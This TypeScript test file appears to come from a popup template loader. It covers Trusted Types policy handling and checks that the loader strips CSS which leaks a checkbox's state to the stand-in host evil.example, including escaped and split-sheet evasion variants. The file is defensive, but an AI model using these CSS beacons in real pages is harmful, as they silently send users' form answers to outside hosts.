import { loadTemplate } from '../../../../elements/poptin-popup/template/load-template.ts';
import { realBrowser } from '../../../../shared/base/browser.ts';
import { expect } from '../../../expect.ts';

/** A page whose Content-Security-Policy names these Trusted Types policies. */
async function strictPage(policies: string): Promise<typeof window> {
  const frame = document.createElement('iframe');
  const csp = `require-trusted-types-for 'script'; trusted-types ${policies}`;
  frame.srcdoc = `<!doctype html><meta http-equiv="Content-Security-Policy" content="${csp}"><p>page</p>`;
  const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
  document.body.append(frame);
  await loaded;
  return frame.contentWindow as unknown as typeof window;
}

async function load(policies: string) {
  const told: string[] = [];
  const browser = { ...realBrowser(), window: await strictPage(policies) };
  const template = await loadTemplate(browser, '<style>p { color: red }</style><h2>Hi</h2>', {
    mobile: false,
    hasReceiver: true,
    warn: (message) => told.push(message),
  });
  return { template, told };
}

describe('a template on a page with Trusted Types', () => {
  afterEach(() => {
    for (const frame of document.querySelectorAll('iframe')) frame.remove();
  });

  it('is read if our policy is allowed', async () => {
    const { template, told } = await load('tagdrop');
    expect(template?.screens.form?.length).toBe(1);
    expect(template?.css).toContain('.popup-template');
    expect(told).toEqual([]);
  });

  for (const policies of ['other', "'none'"]) {
    it(`is left out if it is not (${policies}), and the console says so once`, async () => {
      const { template, told } = await load(policies);
      expect(template).toBeNull();
      expect(told).toHaveLength(1);
      expect(told[0]).toContain('Trusted Types policy "tagdrop"');
    });
  }
});

describe('a template whose styles depend on answers', () => {
  /** Each shows a foreign picture by the state of the tick, in another part of the markup. */
  const TEMPLATES: Readonly<Record<string, string>> = {
    'a rule':
      '<style>input:checked + p { background: url(//evil.example/x) }</style><input type="checkbox"><p>a</p>',
    'an inline style':
      '<style>p { display: none } :checked + p { display: block }</style><input type="checkbox"><p style="background: url(https://evil.example/x)">a</p>',
    'an escaped name':
      '<style>:checked + p { background: \\75rl("/\\2f evil.example/x") }</style><input type="checkbox"><p>a</p>',
    'two sheets':
      '<style>p { --a: url(https://evil.example/x) }</style><input type="checkbox"><p>a</p><style>:checked + p { background: var(--a) }</style>',
  };
  for (const [name, markup] of Object.entries(TEMPLATES)) {
    it(`asks no foreign host, and says so: ${name}`, async () => {
      const told: string[] = [];
      const options = { mobile: false, hasReceiver: true, warn: (message: string) => told.push(message) };
      const template = await loadTemplate(realBrowser(), markup, options);
      expect(template).not.toBeNull();
      expect(JSON.stringify(template)).not.toMatch(/evil/);
      expect(told.join()).toContain('data-tagdrop-hosts');
    });
  }
});
